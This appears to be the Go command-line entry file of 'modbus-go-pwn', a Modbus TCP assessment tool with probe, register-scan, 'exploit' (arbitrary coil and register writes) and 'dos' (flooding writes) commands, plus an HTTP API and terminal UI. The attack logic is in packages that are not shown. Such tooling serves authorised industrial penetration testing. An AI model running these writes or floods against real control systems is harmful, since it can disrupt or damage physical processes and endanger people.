package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"

	"modbus-tools/modbus-go-pwn/api"
	"modbus-tools/modbus-go-pwn/assess"
	"modbus-tools/modbus-go-pwn/config"
	"modbus-tools/modbus-go-pwn/tui"
	"modbus-tools/modbus-go-pwn/version"
)

func printJSON(v any) error {
	out, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return err
	}
	fmt.Println(string(out))
	return nil
}

func signalContext() (context.Context, context.CancelFunc) {
	return signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
}

func newServeCmd() *cobra.Command {
	var listen string
	cmd := &cobra.Command{
		Use:   "serve",
		Short: "Serve the assessment operations over HTTP",
		RunE: func(cmd *cobra.Command, args []string) error {
			a, err := loadApp(false)
			if err != nil {
				return err
			}
			defer a.close()
			if listen != "" {
				a.cfg.HTTP.Listen = listen
			}
			if a.log.GetLevel() < logrus.DebugLevel {
				gin.SetMode(gin.ReleaseMode)
			}

			h := api.NewHandler(a.sessions, a.assessor, a.dos, a.log)
			srv := &http.Server{Addr: a.cfg.HTTP.Listen, Handler: api.NewRouter(h, a.log)}

			ctx, stop := signalContext()
			defer stop()
			errCh := make(chan error, 1)
			go func() {
				a.log.Infof("HTTP API listening on %s", a.cfg.HTTP.Listen)
				errCh <- srv.ListenAndServe()
			}()

			select {
			case err := <-errCh:
				if !errors.Is(err, http.ErrServerClosed) {
					return fmt.Errorf("http server: %w", err)
				}
			case <-ctx.Done():
				a.log.Info("Shutdown signal received. Cleaning up.")
			}
			shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			return srv.Shutdown(shutdownCtx)
		},
	}
	cmd.Flags().StringVar(&listen, "listen", "", "listen address (overrides http.listen)")
	return cmd
}

func newTUICmd() *cobra.Command {
	return &cobra.Command{
		Use:   "tui",
		Short: "Interactive terminal console",
		RunE: func(cmd *cobra.Command, args []string) error {
			a, err := loadApp(true)
			if err != nil {
				return err
			}
			defer a.close()
			targets, err := a.targets()
			if err != nil {
				a.log.Warnf("target profiles unavailable: %v", err)
			}
			p := tea.NewProgram(tui.NewModel(a.sessions, a.assessor, a.dos, targets, a.log), tea.WithAltScreen())
			_, err = p.Run()
			return err
		},
	}
}

func newProbeCmd() *cobra.Command {
	var timeout time.Duration
	cmd := &cobra.Command{
		Use:   "probe <target>",
		Short: "Check whether a host answers Modbus TCP",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			a, err := loadApp(false)
			if err != nil {
				return err
			}
			defer a.close()
			ep, _, err := a.resolve(args[0])
			if err != nil {
				return err
			}
			if timeout <= 0 {
				timeout = a.cfg.Timing.ProbeTimeout
			}
			ok, message := a.assessor.Probe(cmd.Context(), ep, timeout)
			fmt.Printf("%s: %s\n", ep, message)
			if !ok {
				return fmt.Errorf("modbus not available on %s", ep)
			}
			return nil
		},
	}
	cmd.Flags().DurationVar(&timeout, "timeout", 0, "probe timeout (default from config)")
	return cmd
}

type scanOptions struct {
	unit     int
	start    int
	end      int
	hr       bool
	coils    bool
	di       bool
	ir       bool
	discover bool
	idStart  int
	idEnd    int
}

// validate rejects flag values that would wrap when narrowed to protocol fields.
func (o *scanOptions) validate() error {
	if o.start < 0 || o.start > 0xFFFF || o.end > 0xFFFF {
		return errors.New("addresses must be between 0 and 65535")
	}
	if o.end < o.start {
		return errors.New("end address must be greater than or equal to start address")
	}
	if o.end-o.start > config.MaxScanSpan {
		return fmt.Errorf("address range too large, maximum is %d addresses", config.MaxScanSpan)
	}
	if err := checkUnit(o.unit); err != nil {
		return err
	}
	if o.idStart < 0 || o.idStart > 255 || o.idEnd < 0 || o.idEnd > 255 {
		return errors.New("--id-start and --id-end must be between 0 and 255")
	}
	if o.discover && o.idEnd < o.idStart {
		return errors.New("--id-end must be greater than or equal to --id-start")
	}
	return nil
}

// checkUnit accepts -1 (use the target's unit) or a unit id in 0..255.
func checkUnit(unit int) error {
	if unit < -1 || unit > 255 {
		return fmt.Errorf("unit id %d out of range 0-255", unit)
	}
	return nil
}

func newScanCmd() *cobra.Command {
	opts := &scanOptions{unit: -1, end: 10, idStart: 1, idEnd: 255}
	cmd := &cobra.Command{
		Use:   "scan <target>",
		Short: "Read an address range from the selected data spaces",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := opts.validate(); err != nil {
				return err
			}
			so := assess.ScanOptions{
				ScanHoldingRegisters: opts.hr,
				ScanCoils:            opts.coils,
				ScanDiscreteInputs:   opts.di,
				ScanInputRegisters:   opts.ir,
				DiscoverSlaveIDs:     opts.discover,
				IDStart:              opts.idStart,
				IDEnd:                opts.idEnd,
			}
			if !so.DiscoverSlaveIDs && len(so.SelectedTypes()) == 0 {
				return errors.New("select at least one of --hr --coils --di --ir or enable --discover")
			}

			a, err := loadApp(false)
			if err != nil {
				return err
			}
			defer a.close()
			ep, unit, err := a.resolve(args[0])
			if err != nil {
				return err
			}
			if opts.unit >= 0 {
				unit = byte(opts.unit)
			}

			if _, err := a.sessions.Start(ep, unit, assess.AddressRange{Start: opts.start, End: opts.end}, so); err != nil {
				return err
			}
			ctx, stop := signalContext()
			defer stop()
			done := make(chan struct{})
			go func() {
				a.sessions.Wait(context.Background())
				close(done)
			}()
			ticker := time.NewTicker(500 * time.Millisecond)
			defer ticker.Stop()
			var last assess.Progress
			for waiting := true; waiting; {
				select {
				case <-done:
					waiting = false
				case <-ctx.Done():
					a.sessions.Stop()
					ctx = context.Background()
				case <-ticker.C:
					if p := a.sessions.Progress(); p != last {
						last = p
						a.log.Infof("[%3.0f%%] %s", p.Percent, p.Message)
					}
				}
			}
			tree, _ := a.sessions.Results()
			if err := printJSON(assess.Sanitize(tree.Map())); err != nil {
				return err
			}
			if tree.Status != assess.StatusCompleted {
				return fmt.Errorf("scan %s", tree.Status)
			}
			return nil
		},
	}
	flags := cmd.Flags()
	flags.IntVar(&opts.unit, "unit", opts.unit, "unit id (default 1 or the profile's unit)")
	flags.IntVar(&opts.start, "start", opts.start, "first address")
	flags.IntVar(&opts.end, "end", opts.end, "last address (inclusive)")
	flags.BoolVar(&opts.hr, "hr", false, "scan holding registers")
	flags.BoolVar(&opts.coils, "coils", false, "scan coils")
	flags.BoolVar(&opts.di, "di", false, "scan discrete inputs")
	flags.BoolVar(&opts.ir, "ir", false, "scan input registers")
	flags.BoolVar(&opts.discover, "discover", false, "discover responding unit ids first")
	flags.IntVar(&opts.idStart, "id-start", opts.idStart, "first unit id to try during discovery")
	flags.IntVar(&opts.idEnd, "id-end", opts.idEnd, "last unit id to try during discovery")
	return cmd
}

func newExploitCmd() *cobra.Command {
	var (
		unit              int
		regAddr, regValue uint16
		coilAddr          uint16
		coilValue         string
	)
	cmd := &cobra.Command{
		Use:   "exploit <target>",
		Short: "Write a holding register and/or a coil",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := checkUnit(unit); err != nil {
				return err
			}
			var ops assess.ExploitOps
			if cmd.Flags().Changed("register-address") {
				ops.WriteRegister = &assess.RegisterWrite{Address: regAddr, Value: regValue}
			}
			if cmd.Flags().Changed("coil-address") {
				ops.WriteCoil = &assess.CoilWrite{Address: coilAddr, Value: strings.EqualFold(coilValue, "true")}
			}
			if ops.WriteRegister == nil && ops.WriteCoil == nil {
				return errors.New("select at least one of --register-address or --coil-address")
			}

			a, err := loadApp(false)
			if err != nil {
				return err
			}
			defer a.close()
			ep, defUnit, err := a.resolve(args[0])
			if err != nil {
				return err
			}
			if unit < 0 {
				unit = int(defUnit)
			}
			report := a.assessor.Exploit(cmd.Context(), ep, byte(unit), ops)
			if err := printJSON(assess.Sanitize(report.Map())); err != nil {
				return err
			}
			if report.Status != assess.StatusCompleted {
				return fmt.Errorf("exploit %s: %s", report.Status, report.Error)
			}
			return nil
		},
	}
	flags := cmd.Flags()
	flags.IntVar(&unit, "unit", -1, "unit id (default 1 or the profile's unit)")
	flags.Uint16Var(&regAddr, "register-address", 0, "holding register to write")
	flags.Uint16Var(&regValue, "register-value", 0, "value written to the register")
	flags.Uint16Var(&coilAddr, "coil-address", 0, "coil to write")
	flags.StringVar(&coilValue, "coil-value", "false", "coil state, true or false")
	return cmd
}

func newDosCmd() *cobra.Command {
	var (
		unit              int
		coilAddr, regAddr uint16
		workers           int
		rate              float64
		duration          time.Duration
	)
	cmd := &cobra.Command{
		Use:   "dos <target>",
		Short: "Flood a coil and/or register with paced writes",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := checkUnit(unit); err != nil {
				return err
			}
			var attacks []assess.Attack
			if cmd.Flags().Changed("coil-address") {
				attacks = append(attacks, assess.Attack{Type: assess.AttackWriteCoil, Address: coilAddr})
			}
			if cmd.Flags().Changed("register-address") {
				attacks = append(attacks, assess.Attack{Type: assess.AttackWriteRegister, Address: regAddr})
			}
			if len(attacks) == 0 {
				return errors.New("select at least one of --coil-address or --register-address")
			}

			a, err := loadApp(false)
			if err != nil {
				return err
			}
			defer a.close()
			ep, defUnit, err := a.resolve(args[0])
			if err != nil {
				return err
			}
			if unit < 0 {
				unit = int(defUnit)
			}

			ctx, stop := signalContext()
			defer stop()
			campaign := assess.DosCampaign{Attacks: attacks, RatePerWorker: rate, WorkerCount: workers, Duration: duration}
			report, err := a.dos.Start(ctx, ep, byte(unit), campaign)
			if err != nil {
				return err
			}
			if duration <= 0 {
				a.log.Info("DoS campaign running, press Ctrl-C to stop")
				<-ctx.Done()
				report, _ = a.dos.Stop()
			}
			return printJSON(assess.Sanitize(report.Map()))
		},
	}
	flags := cmd.Flags()
	flags.IntVar(&unit, "unit", -1, "unit id (default 1 or the profile's unit)")
	flags.Uint16Var(&coilAddr, "coil-address", 0, "coil to flood")
	flags.Uint16Var(&regAddr, "register-address", 0, "register to flood")
	flags.IntVar(&workers, "workers", 1, "workers per attack type (1-10)")
	flags.Float64Var(&rate, "rate", 10, "requests per second per worker, 0 for unpaced")
	flags.DurationVar(&duration, "duration", 0, "campaign length, 0 runs until interrupted")
	return cmd
}

func newVersionCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "version",
		Short: "Print version information",
		Run: func(cmd *cobra.Command, args []string) {
			fmt.Printf("modbus-go-pwn %s (built %s)\n", version.Version, version.BuildDate)
		},
	}
}
